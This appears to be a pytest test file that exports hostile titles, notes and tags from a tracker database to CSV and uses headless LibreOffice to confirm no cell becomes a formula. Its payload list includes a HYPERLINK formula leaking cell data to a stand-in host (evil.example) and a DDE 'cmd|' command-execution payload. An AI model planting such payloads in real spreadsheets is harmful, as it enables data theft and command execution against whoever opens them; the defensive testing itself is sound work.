"""CSV injection checked by a real spreadsheet (tests/trust/README.md): LibreOffice headless
opens the export of hostile titles, notes and tags and converts it; no cell became a formula.

LibreOffice reads `=1+1` in a CSV as a formula (the control case below proves the check can
fail); the export's neutralised cells must all stay text. Skipped where LibreOffice is absent
(.ci/run installs it).
"""

from __future__ import annotations

import os
import shutil
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest

from db.store import Query, Store
from tests.db.helpers import item

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
pytestmark = pytest.mark.skipif(
    SOFFICE is None, reason="LibreOffice is not installed (apt-get install libreoffice-calc-nogui)"
)

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "'=", " =", "=="]
PAYLOADS = [
    '{s}HYPERLINK("http://evil.example/?leak="&A1;"click")',
    "{s}1+1",
    "{s}cmd|' /C calc'!A0",
    '{s}SUM(1;2), with commas; semicolons and "quotes"',
]
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"


def _convert(csv_file: Path, target: str, profile: Path) -> Path:
    out = csv_file.parent / "converted"
    result = subprocess.run(
        [
            SOFFICE or "soffice",
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--norestore",
            "--infilter=CSV:44,34,76,1",  # comma, double quote, UTF-8, from line 1
            "--convert-to",
            target,
            "--outdir",
            str(out),
            str(csv_file),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "HOME": str(profile)},
    )
    converted = out / f"{csv_file.stem}.{target.split(':')[0]}"
    assert converted.exists(), result.stdout + result.stderr
    return converted


def _fods_cells(path: Path) -> list[dict[str, str]]:
    cells = []
    for cell in ElementTree.parse(path).iter(f"{{{TABLE}}}table-cell"):
        text = "\n".join("".join(p.itertext()) for p in cell.iter(f"{{{TEXT}}}p"))
        cells.append(
            {
                "formula": cell.get(f"{{{TABLE}}}formula", ""),
                "type": cell.get(f"{{{OFFICE}}}value-type", ""),
                "text": text,
            }
        )
    return cells


def _xlsx_formulas(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        return [
            f.text or ""
            for n in sheets
            for f in ElementTree.fromstring(book.read(n)).iter()
            if f.tag.endswith("}f")
        ]


@pytest.fixture(scope="module")
def profile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("libreoffice-profile")


def test_the_check_can_fail(tmp_path: Path, profile: Path) -> None:
    """Control: an unneutralised formula in a CSV does become a formula in LibreOffice."""
    raw = tmp_path / "raw.csv"
    raw.write_text("\ufefftitle\n=1+1\n", encoding="utf-8")
    assert [c["formula"] for c in _fods_cells(_convert(raw, "fods", profile)) if c["formula"]] == ["of:=1+1"]


def test_hostile_cells_stay_text_in_libreoffice(tmp_path: Path, profile: Path) -> None:
    values = [p.format(s=s) for p in PAYLOADS for s in STARTS]
    store = Store.open(tmp_path / "tracker.sqlite3")
    try:
        store.save_announcements(
            "src",
            [item(n, title=value, summary=value, organisation=value) for n, value in enumerate(values)],
        )
        for n, value in enumerate(values, start=1):
            store.set_note(n, value)
            store.set_tags(n, [(value.replace(";", ",").strip() or "blank")[:60]])
        exported = tmp_path / "export.csv"
        assert store.export_csv(exported, Query()) == len(values)
    finally:
        store.close()

    cells = _fods_cells(_convert(exported, "fods", profile))
    assert len(cells) > len(values) * 5
    assert [c for c in cells if c["formula"]] == []
    hostile = [c for c in cells if any(mark in c["text"] for mark in ("HYPERLINK(", "1+1", "cmd|", "SUM("))]
    assert len(hostile) >= len(values) * 3  # title, summary, note at least (organisation, tags)
    assert {c["type"] for c in hostile} == {"string"}  # shown as the text it is
    assert _xlsx_formulas(_convert(exported, "xlsx", profile)) == []
